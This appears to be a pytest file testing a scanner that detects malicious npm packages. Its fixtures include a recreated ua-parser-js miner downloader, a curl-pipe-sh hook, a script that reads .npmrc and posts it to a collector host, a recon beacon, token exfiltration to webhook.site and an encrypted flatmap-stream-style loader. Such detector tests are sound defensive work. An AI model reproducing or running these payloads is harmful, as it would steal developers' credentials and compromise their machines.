"""npm artifacts: install hooks judged by what they do, payloads, binaries, manifest confusion."""

from __future__ import annotations

import base64
import json

from scanners.models import Severity
from scanners.packages import analyze_package
from scanners.packages.archive import extract_archive
from scanners.packages.snapshot import snapshot_from_npm
from tests.scanners.packages.build import NOW, fixture, npm_snapshot, rules_of, tgz

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + bytes(range(256)) * 4


def severity_of(findings, rule: str) -> Severity:  # type: ignore[no-untyped-def]
    return max((t.severity for t in findings.threats if t.rule == rule), key=lambda s: s.rank)


# --- ua-parser-js (October 2021): preinstall starts a script that downloads and runs a miner ----------

UA_PREINSTALL_JS = """const { exec } = require("child_process");
function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if (error) { console.log(`error: ${error.message}`); return; }
  });
}
var opsys = process.platform;
if (opsys == "darwin") { opsys = "MacOS"; }
else if (opsys == "win32" || opsys == "win64") { exec("preinstall.bat", () => {}); }
else if (opsys == "linux") { terminalLinux(); }
"""
UA_PREINSTALL_SH = """IP=$(curl -k https://geo.example.net/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]
  then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
    then
    curl http://203.0.113.7/download/jsextension -o jsextension
    if [ ! -f jsextension ]
      then
      wget http://203.0.113.7/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.net:443 --cpu-max-threads-hint=50 --background &>/dev/null &
  fi
fi
"""
UA_PREINSTALL_BAT = """@echo off
curl http://203.0.113.7/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://203.0.113.7/download/jsextension.exe -O jsextension.exe
)
start /B .\\jsextension.exe -k --tls --rig-id q -o pool.example.net:443
"""


def ua_parser_snapshot():  # type: ignore[no-untyped-def]
    doc = fixture("npm-ua-parser.json")
    manifest = dict(doc["versions"]["0.7.29"])
    files = {"package.json": json.dumps(manifest), "preinstall.js": UA_PREINSTALL_JS, "preinstall.sh": UA_PREINSTALL_SH,
             "preinstall.bat": UA_PREINSTALL_BAT, "src/ua-parser.js": "(function (window) { 'use strict'; })(this);\n"}
    return snapshot_from_npm(doc, None, extract_archive(tgz(files)), NOW)


def test_ua_parser_style_preinstall_is_critical() -> None:
    findings = analyze_package(ua_parser_snapshot())
    hits = [t for t in findings.threats if t.rule == "pkg/install-hook-download-exec"]
    assert {t.path for t in hits} >= {"preinstall.sh", "preinstall.bat"}
    assert all(t.severity is Severity.CRITICAL for t in hits)
    assert all(t.type == "install_attack" for t in hits)
    assert findings.evidence_level == 3.0 and findings.complete


def test_previous_ua_parser_release_is_clean() -> None:
    doc = fixture("npm-ua-parser.json")
    manifest = dict(doc["versions"]["0.7.28"])
    files = {"package.json": json.dumps(manifest), "src/ua-parser.js": "(function (window) { 'use strict'; })(this);\n"}
    findings = analyze_package(snapshot_from_npm(doc, "0.7.28", extract_archive(tgz(files)), NOW))
    assert findings.threats == []


# --- benign hooks that look similar ------------------------------------------------------------------

ESBUILD_INSTALL_JS = """"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const zlib = require("zlib");
const https = require("https");
const child_process = require("child_process");
const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
const knownUnixlikePackages = { "darwin arm64 LE": "@esbuild/darwin-arm64", "linux x64 LE": "@esbuild/linux-x64" };
function pkgAndSubpathForCurrentPlatform() {
  const platformKey = `${process.platform} ${os.arch()} ${os.endianness()}`;
  return { pkg: knownUnixlikePackages[platformKey], subpath: "bin/esbuild" };
}
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
      if (res.statusCode !== 200) return reject(new Error(`Server responded with ${res.statusCode}`));
      let chunks = [];
      res.on("data", (chunk) => chunks.push(chunk));
      res.on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}
function installUsingNPM(pkg, subpath, binPath) {
  const env = { ...process.env, npm_config_global: undefined };
  child_process.execSync(`npm install --loglevel=error --prefer-offline --no-audit --progress=false ${pkg}@${versionFromPackageJSON}`, { cwd: os.tmpdir(), stdio: "pipe", env });
}
async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
  const registry = process.env.npm_config_registry || "https://registry.example.test/";
  const url = `${registry}${pkg}/-/${pkg.replace("@esbuild/", "")}-${versionFromPackageJSON}.tgz`;
  fs.writeFileSync(binPath, zlib.unzipSync(await fetch(url)));
  fs.chmodSync(binPath, 493);
}
function validateBinaryVersion(...command) {
  const stdout = child_process.execFileSync(command.shift(), command, { stdio: "pipe" }).toString().trim();
  if (stdout !== versionFromPackageJSON) throw new Error("bad version");
}
"""


def test_esbuild_style_platform_installer_not_flagged() -> None:
    snap = npm_snapshot("fastbuild", {"install.js": ESBUILD_INSTALL_JS, "lib/main.js": "module.exports = {};\n"},
                        scripts={"postinstall": "node install.js"},
                        manifest_extra={"optionalDependencies": {"@fastbuild/linux-x64": "1.1.0"}})
    findings = analyze_package(snap)
    assert findings.threats == [], findings.threats
    assert any(s.name == "pkg/install-hook-present" for s in findings.signals)


def test_node_gyp_native_addon_not_flagged() -> None:
    snap = npm_snapshot("nativeaddon", {"binding.gyp": "{'targets': [{'target_name': 'addon', 'sources': ['addon.cc']}]}",
                                        "addon.cc": "#include <node.h>\n", "build/Release/addon.node": ELF},
                        scripts={"install": "node-gyp rebuild"}, manifest_extra={"gypfile": True},
                        version_extra={"gypfile": True})
    findings = analyze_package(snap)
    assert findings.threats == []
    assert any("routine" in s.detail for s in findings.signals if s.name == "pkg/install-hook-present")


def test_husky_prepare_is_not_an_install_hook() -> None:
    snap = npm_snapshot("linted", {"index.js": "module.exports = 1;\n"}, scripts={"prepare": "husky install", "test": "jest"})
    findings = analyze_package(snap)
    assert findings.threats == [] and not any(s.name == "pkg/install-hook-present" for s in findings.signals)


def test_plain_node_postinstall_message_is_only_a_signal() -> None:
    snap = npm_snapshot("friendly", {"index.js": "module.exports = 1;\n"},
                        scripts={"postinstall": "node -e \"console.log('thanks for installing')\""})
    findings = analyze_package(snap)
    assert findings.threats == []
    assert any(s.name == "pkg/install-hook-present" for s in findings.signals)


# --- attacks in hooks --------------------------------------------------------------------------------

def test_curl_pipe_sh_postinstall() -> None:
    snap = npm_snapshot("helper", {"index.js": ""}, scripts={"postinstall": "curl -s https://203.0.113.9/i.sh | sh"})
    findings = analyze_package(snap)
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.CRITICAL


def test_node_e_eval_of_base64() -> None:
    payload = base64.b64encode(b"require('child_process').exec('id')").decode()
    snap = npm_snapshot("helper", {"index.js": ""},
                        scripts={"postinstall": f"node -e \"eval(Buffer.from('{payload}','base64').toString())\""})
    findings = analyze_package(snap)
    assert severity_of(findings, "pkg/install-hook-inline-eval") is Severity.CRITICAL


STEALER = """const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'collector.example.net', path: '/c', method: 'POST' });
req.write(JSON.stringify({ npmrc, host: os.hostname() }));
req.end();
"""


def test_install_script_reading_npmrc_and_posting_it() -> None:
    snap = npm_snapshot("helper", {"scripts/setup.js": STEALER}, scripts={"postinstall": "node scripts/setup.js"})
    findings = analyze_package(snap)
    hit = next(t for t in findings.threats if t.rule == "pkg/install-hook-exfiltration")
    assert hit.severity is Severity.CRITICAL and hit.path == "scripts/setup.js"
    assert "npm token file" in hit.detail


RECON = """const os = require('os'); const dns = require('dns'); const https = require('https');
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, s: dns.getServers() });
https.get('https://c9x1.oast.fun/?d=' + Buffer.from(data).toString('hex'));
"""


def test_dependency_confusion_recon() -> None:
    snap = npm_snapshot("internal-corp-utils", {"index.js": RECON}, scripts={"preinstall": "node index.js"})
    findings = analyze_package(snap)
    assert severity_of(findings, "pkg/install-hook-recon") is Severity.CRITICAL


def test_platform_logging_postinstall_is_not_recon() -> None:
    code = "const os = require('os');\nconsole.log(`installed for ${os.platform()} ${os.arch()}`);\n"
    findings = analyze_package(npm_snapshot("friendly", {"post.js": code}, scripts={"postinstall": "node post.js"}))
    assert findings.threats == []


def test_library_token_use_is_not_exfiltration() -> None:
    code = """const https = require('https');
module.exports = function client() {
  const token = process.env.GITHUB_TOKEN;
  return https.request({ hostname: 'api.github.com', headers: { authorization: `token ${token}` } });
};
"""
    findings = analyze_package(npm_snapshot("gh-client", {"index.js": code}))
    assert findings.threats == []


def test_ssh_client_reading_its_key_is_not_exfiltration() -> None:
    code = "const net = require('net'); const fs = require('fs'); const os = require('os');\n" \
           "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nmodule.exports = (host) => net.connect(22, host);\n"
    findings = analyze_package(npm_snapshot("ssh-helper", {"index.js": code}))
    assert findings.threats == []


def test_library_stealer_without_hook_is_high() -> None:
    code = STEALER.replace("'.npmrc'", "'.npmrc'); fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa')")
    findings = analyze_package(npm_snapshot("colors-extra", {"index.js": code}))
    assert severity_of(findings, "pkg/credential-exfiltration") is Severity.HIGH


# --- event-stream / flatmap-stream (2018): an encrypted payload compiled at require time ------------

def flatmap_payload() -> str:
    blob = bytes((i * 73 + 41) % 256 for i in range(600)).hex()
    return (
        "var Stream=require('stream').Stream;module.exports=function(e,n){var i=new Stream;return i};\n"
        "!function(){try{var r=require,t=process;function e(r){return r.from(r.from(r).toString(),'hex')}"
        "var n=r(e('2e2f746573742f64617461')),o=t[e(n[3])][e(n[4])];if(!o)return;"
        "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
        "var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,''),f.exports(n[1])}catch(r){}}();\n"
        f"var d=['{blob}'];var c=require('crypto').createDecipher('aes256',process.env.npm_package_description);"
        "var m=new module.constructor;m._compile(c.update(d[0],'hex','utf8'),'');\n"
    )


def test_flatmap_stream_encrypted_payload() -> None:
    snap = npm_snapshot("flatmap-stream", {"index.js": "module.exports = require('./index.min.js');\n",
                                           "index.min.js": flatmap_payload()})
    findings = analyze_package(snap)
    hit = next(t for t in findings.threats if t.rule == "pkg/encrypted-payload")
    assert hit.severity is Severity.CRITICAL and hit.path == "index.min.js"


def test_decipher_without_eval_is_fine() -> None:
    code = "const crypto = require('crypto');\nmodule.exports = (key, iv, data) => {\n" \
           "  const d = crypto.createDecipheriv('aes-256-cbc', key, iv);\n  return Buffer.concat([d.update(data), d.final()]);\n};\n"
    assert analyze_package(npm_snapshot("cipherkit", {"index.js": code})).threats == []


# --- obfuscation reused from the PR scanner ------------------------------------------------------------

OBFUSCATED = "var _0x3f2a=['log','hello'];(function(_0x1b2c4d,_0x5e6f7a){var _0x2a3b4c=function(_0x4d5e6f){while(--_0x4d5e6f){" \
             "_0x1b2c4d['push'](_0x1b2c4d['shift']());}};_0x2a3b4c(++_0x5e6f7a);}(_0x3f2a,0x1a4));var _0x4c5d=function(_0x1a2b3c){" \
             "return _0x3f2a[_0x1a2b3c-0x0];};console[_0x4c5d('0x0')](_0x4c5d('0x1'));var _0x9a8b7c=_0x4c5d;var _0x6d7e8f=_0x9a8b7c;" \
             "var _0x11aa22=_0x6d7e8f,_0x33bb44=_0x11aa22,_0x55cc66=_0x33bb44;\n"


def test_obfuscated_install_script_is_raised() -> None:
    snap = npm_snapshot("helper", {"setup.js": OBFUSCATED}, scripts={"postinstall": "node setup.js"})
    findings = analyze_package(snap)
    hits = [t for t in findings.threats if t.rule == "pkg/obfuscation-js-obfuscator"]
    assert hits and hits[0].severity is Severity.HIGH and "runs at install" in hits[0].detail


def test_obfuscated_library_file_keeps_detector_severity() -> None:
    findings = analyze_package(npm_snapshot("helper", {"lib/x.js": OBFUSCATED}))
    hits = [t for t in findings.threats if t.rule == "pkg/obfuscation-js-obfuscator"]
    assert hits and hits[0].severity is Severity.MEDIUM


# --- binaries -----------------------------------------------------------------------------------------

def test_unexplained_elf_in_js_package() -> None:
    findings = analyze_package(npm_snapshot("leftish", {"index.js": "", "lib/helper": ELF}))
    hit = next(t for t in findings.threats if t.rule == "pkg/unexplained-binary")
    assert hit.severity is Severity.HIGH and hit.path == "lib/helper"


def test_binary_run_by_install_hook_is_critical() -> None:
    run = "const { execFile } = require('child_process');\nexecFile(__dirname + '/lib/helper', () => {});\n"
    findings = analyze_package(npm_snapshot("leftish", {"install.js": run, "lib/helper": ELF}, scripts={"postinstall": "node install.js"}))
    assert severity_of(findings, "pkg/unexplained-binary") is Severity.CRITICAL


def test_platform_package_binary_is_explained() -> None:
    snap = npm_snapshot("@fastbuild/linux-x64", {"bin/fastbuild": ELF}, manifest_extra={"os": ["linux"], "cpu": ["x64"]},
                        version_extra={"os": ["linux"], "cpu": ["x64"]})
    assert analyze_package(snap).threats == []


def test_text_starting_with_mz_is_not_a_binary() -> None:
    assert analyze_package(npm_snapshot("notes", {"MZ.txt": "MZ is a nice pair of letters" * 10})).threats == []


# --- manifest confusion ----------------------------------------------------------------------------------

def test_hidden_install_script_in_tarball() -> None:
    doc_snapshot = npm_snapshot("quiet", {"x.js": "module.exports = 1;\n"})
    files = dict(doc_snapshot.artifact or {})
    files["package.json"] = json.dumps({"name": "quiet", "version": "1.1.0", "scripts": {"postinstall": "node x.js"}}).encode()
    snap = doc_snapshot.model_copy(update={"artifact": files})
    findings = analyze_package(snap)
    assert severity_of(findings, "pkg/hidden-install-script") is Severity.HIGH


def test_tarball_version_and_dependencies_differ() -> None:
    snap = npm_snapshot("drift", {"index.js": ""}, manifest_extra={"version": "9.9.9", "dependencies": {"sneaky": "^1.0.0"}})
    rules = rules_of(analyze_package(snap))
    assert {"pkg/manifest-mismatch", "pkg/manifest-dependencies-differ"} <= rules


def test_matching_manifest_is_quiet() -> None:
    snap = npm_snapshot("steady", {"index.js": ""}, manifest_extra={"dependencies": {"ms": "^2.1.0"}},
                        version_extra={"dependencies": {"ms": "^2.1.0"}})
    assert analyze_package(snap).threats == []


def test_invalid_package_json_is_a_gap() -> None:
    snap = npm_snapshot("broken", {"index.js": ""})
    files = dict(snap.artifact or {})
    files["package.json"] = b"{not json"
    findings = analyze_package(snap.model_copy(update={"artifact": files}))
    assert any("not valid JSON" in gap for gap in findings.evidence_gaps)
    assert not findings.complete


# --- archive oddities ------------------------------------------------------------------------------------

def test_archive_escape_becomes_threat() -> None:
    artifact = extract_archive(tgz({"package.json": json.dumps({"name": "linky", "version": "1.1.0"}), "index.js": ""},
                                   links={"creds": "../../../../home/user/.npmrc"}))
    doc_snapshot = npm_snapshot("linky", None)
    snap = doc_snapshot.model_copy(update={"artifact": artifact.files, "artifact_problems": artifact.problems})
    assert "pkg/archive-path-escape" in rules_of(analyze_package(snap))


def test_metadata_only_hook_analysis() -> None:
    findings = analyze_package(snapshot_from_npm(fixture("npm-ua-parser.json"), None, None, NOW))
    assert findings.evidence_level == 1.0
    assert any(s.name == "pkg/install-hook-present" for s in findings.signals)


BROWSER_INSTALLER = """const https = require('https'); const fs = require('fs'); const { execFileSync } = require('child_process');
const url = `https://downloads.example.org/browser/${process.platform}/chrome.zip`;
https.get(url, (res) => res.pipe(fs.createWriteStream('chrome.zip')).on('finish', () => {
  execFileSync('unzip', ['-o', 'chrome.zip']);
  fs.chmodSync('chrome/chrome', 0o755);
}));
"""


def test_https_binary_download_is_caution_not_critical() -> None:
    findings = analyze_package(npm_snapshot("headless-thing", {"install.js": BROWSER_INSTALLER}, scripts={"postinstall": "node install.js"}))
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.MEDIUM


def test_popular_package_binary_download_is_low() -> None:
    findings = analyze_package(npm_snapshot("puppeteer", {"install.js": BROWSER_INSTALLER}, scripts={"postinstall": "node install.js"}))
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.LOW


def test_popular_package_whose_download_hook_is_new_is_high() -> None:
    # The puppeteer-style installer is routine when it has been there for releases; appearing in
    # this release is how a hijacked release of a popular package looks.
    findings = analyze_package(npm_snapshot("puppeteer", {"install.js": BROWSER_INSTALLER}, scripts={"postinstall": "node install.js"},
                                            previous_scripts={}))
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.HIGH
    (added,) = [t for t in findings.threats if t.rule == "pkg/install-hook-added"]
    assert added.severity is Severity.LOW and "`postinstall` hook is new in 1.1.0: 1.0.0 ran nothing" in added.detail


def test_an_old_hook_is_not_news() -> None:
    findings = analyze_package(npm_snapshot("puppeteer", {"install.js": BROWSER_INSTALLER}, scripts={"postinstall": "node install.js"}))
    assert "pkg/install-hook-added" not in rules_of(findings)


def test_a_new_native_build_step_is_not_flagged_as_added() -> None:
    findings = analyze_package(npm_snapshot("fast-thing", {"binding.gyp": "{}", "src/a.cc": "int main(){}"},
                                            scripts={"install": "node-gyp rebuild"}, previous_scripts={}))
    assert "pkg/install-hook-added" not in rules_of(findings)


def test_the_hook_ua_parser_js_added_is_seen_from_metadata_alone() -> None:
    findings = analyze_package(snapshot_from_npm(fixture("npm-ua-parser.json"), None, None, NOW))
    (added,) = [t for t in findings.threats if t.rule == "pkg/install-hook-added"]
    assert "`preinstall` hook is new in 0.7.29: 0.7.28 ran nothing" in added.detail


def test_raw_ip_binary_download_is_critical() -> None:
    code = BROWSER_INSTALLER.replace("https://downloads.example.org", "https://198.51.100.4")
    findings = analyze_package(npm_snapshot("puppeteer", {"install.js": code}, scripts={"postinstall": "node install.js"}))
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.CRITICAL


def test_inline_require_follows_the_file() -> None:
    snap = npm_snapshot("helper", {"postinstall.js": STEALER},
                        scripts={"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""})
    assert "pkg/install-hook-exfiltration" in rules_of(analyze_package(snap))


def test_installer_using_github_token_for_rate_limits_is_medium() -> None:
    code = "const https = require('https');\nconst headers = process.env.GITHUB_TOKEN ? { authorization: `token ${process.env.GITHUB_TOKEN}` } : {};\n" \
           "https.get({ hostname: 'api.github.com', path: '/repos/example/rg/releases', headers }, () => {});\n"
    findings = analyze_package(npm_snapshot("rg-binary", {"install.js": code}, scripts={"postinstall": "node install.js"}))
    assert severity_of(findings, "pkg/install-hook-exfiltration") is Severity.MEDIUM


def test_token_sent_to_collection_host_is_critical() -> None:
    code = "const https = require('https');\nhttps.get('https://webhook.site/abc?t=' + process.env.NPM_TOKEN);\n"
    findings = analyze_package(npm_snapshot("helper", {"install.js": code}, scripts={"postinstall": "node install.js"}))
    assert severity_of(findings, "pkg/install-hook-exfiltration") is Severity.CRITICAL
